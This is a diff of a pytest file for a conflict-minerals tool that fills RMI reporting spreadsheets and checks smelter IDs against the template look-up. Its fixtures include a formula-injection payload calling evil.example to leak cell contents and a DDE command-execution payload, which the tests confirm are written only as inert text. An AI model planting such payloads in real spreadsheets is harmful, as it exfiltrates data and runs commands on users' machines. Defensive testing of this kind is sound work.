@@ -11,17 +11,26 @@ from pathlib import Path
 
 import openpyxl
 import pytest
+from sqlalchemy import select, update
 
 from conflict_minerals.cmrt import templates
 from conflict_minerals.cmrt.extended import read_extended
-from conflict_minerals.cmrt.extended_writer import ExtendedFill, GivenAnswer, template_of, write_extended
+from conflict_minerals.cmrt.extended_writer import ExtendedFill, GivenAnswer, lookup_ids, template_of, write_extended
 from conflict_minerals.model import Company, MineralSmelterRow, MineRow, Product
+from conflict_minerals.program.schema import smelter_rows, submissions
 from conflict_minerals.program.workspace import open_workspace
 from conflict_minerals.service.templates import export_company_extended
-from tests.conftest import cmrt_template, template_path
+from tests.conftest import FULL_DECLARATION, cmrt_template, template_path
 from tests.workspace_fixtures import Program
 
 SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+# LibreOffice recalculates an Excel-saved .xlsx only when told to (Excel itself honours fullCalcOnLoad).
+RECALCULATE_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
+<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema">
+<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
+<value>0</value></prop></item>
+</oor:items>
+"""
 HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
 COMPANY = Company(
     name="Northwind Instruments, Inc.",
@@ -53,7 +62,15 @@ def _layout(path: Path) -> templates.ExtendedLayout:
     return templates.layout_for(*template_of(path))[0]
 
 
-def _full_fill(spec: templates.ExtendedLayout, minerals: tuple[str, ...]) -> ExtendedFill:
+def _listed(blank: Path, minerals: tuple[str, ...]) -> tuple[str, str]:
+    """A mineral declared and a Smelter ID the template's look-up lists for it (any ID without a look-up)."""
+    known = lookup_ids(blank)
+    if known is None:
+        return minerals[0], "CID003209"
+    return next((m, min(known[m.casefold()])) for m in minerals if known.get(m.casefold()))
+
+
+def _full_fill(spec: templates.ExtendedLayout, minerals: tuple[str, ...], blank: Path) -> ExtendedFill:
     """Every question answered 'Yes' (or its first option), a facility per mineral, a mine and a product."""
     answers = tuple(
         GivenAnswer(q.key, m, "Yes" if "Yes" in q.options else q.options[0], f"{q.key} note")
@@ -67,7 +84,9 @@ def _full_fill(spec: templates.ExtendedLayout, minerals: tuple[str, ...]) -> Ext
         targets = minerals if q.per_mineral else (None,)
         company += [GivenAnswer(q.key, m, value, "https://northwind.example/policy") for m in targets]
     smelters = [MineralSmelterRow(0, m, None, "Smelter not listed", f"{m} Works", "CHINA") for m in minerals]
-    smelters.append(MineralSmelterRow(0, minerals[0], "CID003209", None, HOSTILE, "GERMANY"))
+    smelters[-1] = MineralSmelterRow(0, minerals[-1], None, "Smelter not listed", HOSTILE, "CHINA")
+    mineral, smelter_id = _listed(blank, minerals)
+    smelters.append(MineralSmelterRow(0, mineral, smelter_id, None, HOSTILE, "GERMANY"))
     mines = (MineRow(0, minerals[0], f"{minerals[0]} Works", "Hill Mine", "M-1", "CANADA", "=1+1"),)
     products = (Product(0, "NW-100", "Probe", "=cmd|' /C calc'!A0"),)
     return ExtendedFill(COMPANY, minerals, answers, tuple(company), tuple(smelters), mines, products)
@@ -78,7 +97,7 @@ def test_written_declaration_reads_back(name: str, tmp_path: Path) -> None:
     blank = template_path(name)
     spec = _layout(blank)
     minerals = spec.fixed_minerals or CASES[name]
-    fill = _full_fill(spec, minerals)
+    fill = _full_fill(spec, minerals, blank)
     out = tmp_path / name
     write_extended(blank, out, fill)
     document = read_extended(out)
@@ -92,7 +111,7 @@ def test_written_declaration_reads_back(name: str, tmp_path: Path) -> None:
     rows = [(r.mineral, r.smelter_id, r.name, r.country) for r in document.smelters]
     listed = [r for r in fill.smelters if r.smelter_id]
     assert [(r.mineral, None, r.name, r.country) for r in fill.smelters if not r.smelter_id] == rows[: len(minerals)]
-    assert rows[len(minerals)][:2] == (listed[0].mineral, "CID003209")
+    assert rows[len(minerals)][:2] == (listed[0].mineral, listed[0].smelter_id)
     if spec.mine_list:
         assert [(m.mineral, m.smelter_name, m.mine_name) for m in document.mines] == [
             (m.mineral, m.smelter_name, m.mine_name) for m in fill.mines
@@ -106,13 +125,13 @@ def test_supplier_text_stays_text_and_openpyxl_opens_it(name: str, tmp_path: Pat
     blank = template_path(name)
     spec = _layout(blank)
     out = tmp_path / name
-    write_extended(blank, out, _full_fill(spec, CASES[name]))
+    write_extended(blank, out, _full_fill(spec, CASES[name], blank))
     with zipfile.ZipFile(out) as archive:
         sheets = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
         assert "xl/calcChain.xml" not in archive.namelist()
     assert b"<f>HYPERLINK" not in sheets and b"<f>cmd" not in sheets
     book = openpyxl.load_workbook(out)
-    row = len(CASES[name]) + 5  # after one "not listed" row per mineral
+    row = len(CASES[name]) + 4  # the last "not listed" row
     assert book["Smelter List"][f"D{row}"].value == HOSTILE
     assert book["Smelter List"][f"D{row}"].data_type == "s"
     assert book["Declaration"]["D8"].value == COMPANY.name
@@ -141,6 +160,25 @@ def test_rows_of_an_unselected_mineral_move_with_the_selection(tmp_path: Path) -
     assert read_extended(out).answer("Nickel", "Q1").value == "Unknown"  # type: ignore[union-attr]
 
 
+def test_an_id_the_template_does_not_list_is_written_as_not_listed(tmp_path: Path) -> None:
+    rows = (
+        MineralSmelterRow(0, "Cobalt", "cid003209", None, "Kept By ID", "CHINA"),
+        MineralSmelterRow(0, "Mica", "CID003209", None, "Mica Mill", "INDIA"),  # a cobalt ID, not a mica one
+    )
+    out = tmp_path / "emrt.xlsx"
+    write_extended(template_path("RMI_EMRT_2.1.xlsx"), out, ExtendedFill(COMPANY, ("Cobalt", "Mica"), smelters=rows))
+    first, second = read_extended(out).smelters
+    assert (first.mineral, first.smelter_id, first.lookup_name) == ("Cobalt", "CID003209", None)
+    assert (second.mineral, second.smelter_id, second.not_listed, second.name, second.country) == (
+        "Mica",
+        None,
+        True,
+        "Mica Mill",
+        "INDIA",
+    )
+    assert "CID003209 is not in this template's Smelter Look-up" in (second.comments or "")
+
+
 def test_a_mineral_the_template_does_not_offer_is_refused(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="offers only"):
         write_extended(template_path("RMI_EMRT_2.1.xlsx"), tmp_path / "x.xlsx", ExtendedFill(COMPANY, ("Zinc",)))
@@ -148,25 +186,34 @@ def test_a_mineral_the_template_does_not_offer_is_refused(tmp_path: Path) -> Non
 
 
 @pytest.mark.skipif(SOFFICE is None, reason="LibreOffice (soffice) is not installed")
-@pytest.mark.xfail(
-    strict=True,
-    reason="known gap: after a LibreOffice recalculation RMI's Checker still counts required cells of the written "
-    "EMRT 2.1 / CRT 2.21 as missing; to be traced cell by cell (strict: passing will flag this marker for removal)",
-)
-@pytest.mark.parametrize("name", ["RMI_EMRT_2.1.xlsx", "RMI_CRT_2.21.xlsx"])
+@pytest.mark.parametrize("name", sorted(CASES))
 def test_rmi_checker_finds_nothing_missing_after_recalculation(name: str, tmp_path: Path) -> None:
+    """RMI's Checker, recalculated, counts no open item and shows no error the blank does not show itself."""
     blank = template_path(name)
     spec = _layout(blank)
     written = tmp_path / "written.xlsx"
-    write_extended(blank, written, _full_fill(spec, spec.fixed_minerals or CASES[name]))
+    write_extended(blank, written, _full_fill(spec, spec.fixed_minerals or CASES[name], blank))
+    shutil.copyfile(blank, tmp_path / "blank.xlsx")
+    profile = tmp_path / "lo"
+    (profile / "user").mkdir(parents=True)
+    (profile / "user" / "registrymodifications.xcu").write_text(RECALCULATE_ALWAYS, encoding="utf-8")
     assert SOFFICE is not None
-    command = [SOFFICE, f"-env:UserInstallation=file://{tmp_path / 'lo'}", "--headless", "--calc"]
-    subprocess.run([*command, "--convert-to", "xlsx", "--outdir", str(tmp_path / "out"), str(written)], check=True)
+    command = [SOFFICE, f"-env:UserInstallation=file://{profile}", "--headless", "--calc", "--convert-to", "xlsx"]
+    files = [str(written), str(tmp_path / "blank.xlsx")]
+    subprocess.run([*command, "--outdir", str(tmp_path / "out"), *files], check=True, capture_output=True, timeout=300)
     checker = openpyxl.load_workbook(tmp_path / "out" / "written.xlsx", data_only=True)["Checker"]
     column = next(c.column_letter for c in checker[3] if c.value == "incomplete")
-    values = [c.value for c in checker[column][3:] if c.value is not None]
-    assert all(v == 0 for v in values if isinstance(v, (int, float))), values
-    assert not [v for row in checker.iter_rows(values_only=True) for v in row if isinstance(v, str) and v[:1] == "#"]
+    open_items = [c.coordinate for c in checker[column][3:] if isinstance(c.value, (int, float)) and c.value]
+    assert open_items == []
+    assert _errors(checker) <= _errors(
+        openpyxl.load_workbook(tmp_path / "out" / "blank.xlsx", data_only=True)["Checker"]
+    )
+
+
+def _errors(sheet: object) -> set[str]:
+    """The cells showing an Excel error (#N/A, #REF! ...)."""
+    rows = sheet.iter_rows()  # type: ignore[attr-defined]
+    return {c.coordinate for row in rows for c in row if isinstance(c.value, str) and c.value.startswith("#")}
 
 
 def test_import_template_takes_every_extended_blank(program: Program) -> None:
@@ -225,3 +272,35 @@ def test_service_writes_the_facilities_named_for_the_declared_minerals(program: 
     document = read_extended(tmp_path / "amrt.xlsx")
     assert [(r.mineral, r.name) for r in document.smelters][:2] == [("Zinc", HOSTILE), ("Silver", "Silver Co")]
     assert {a.mineral: a.value for a in document.answers if a.question == "Q1"}["Silver"] == "Yes"
+
+
+def test_export_emrt_lists_the_facilities_of_the_suppliers_current_emrts(
+    program: Program, build_cmrt, tmp_path: Path
+) -> None:  # type: ignore[no-untyped-def]
+    """Stored as the EMRT storage stores them (template_type on the submission, the mineral in `metal`)."""
+    program("suppliers", "add", "Acme Components Ltd.", "--unique-id", "123456789")
+    program("campaign", "start", "2025")
+    inbox = tmp_path / "inbox"
+    inbox.mkdir()
+    shutil.copyfile(build_cmrt("6.5", FULL_DECLARATION), inbox / "acme.xlsx")
+    program("ingest", inbox)
+    workspace = open_workspace(program.root)
+    try:
+        with workspace.transaction() as connection:
+            connection.execute(update(submissions).values(template_type="EMRT"))
+            connection.execute(update(smelter_rows).where(smelter_rows.c.metal == "Tin").values(metal="Mica"))
+            connection.execute(update(smelter_rows).where(smelter_rows.c.metal != "Mica").values(metal="Cobalt"))
+            stored = connection.execute(select(smelter_rows.c.metal, smelter_rows.c.smelter_id)).all()
+    finally:
+        workspace.close()
+    program("refdata", "import-template", template_path("RMI_EMRT_2.1.xlsx"))
+    out = tmp_path / "emrt.xlsx"
+    result = program("export-emrt", "--year", "2025", "--mineral", "Cobalt", "--out", out)
+    document = read_extended(out)
+    assert document.smelters and {row.mineral for row in document.smelters} == {"Cobalt"}  # Mica is not declared
+    expected_ids = {sid for metal, sid in stored if metal == "Cobalt" and sid}
+    assert {row.smelter_id for row in document.smelters if row.smelter_id} <= expected_ids
+    assert "Nowhere Tantalum Works" in {row.name for row in document.smelters if row.not_listed}
+    assert document.answer("Cobalt", "Q1").value == "Yes"  # type: ignore[union-attr]
+    assert f"{len(document.smelters)} smelter rows" in result.output
+    assert program("export-emrt", "--year", "2024", "--out", out).output.count(" 0 smelter rows") == 1
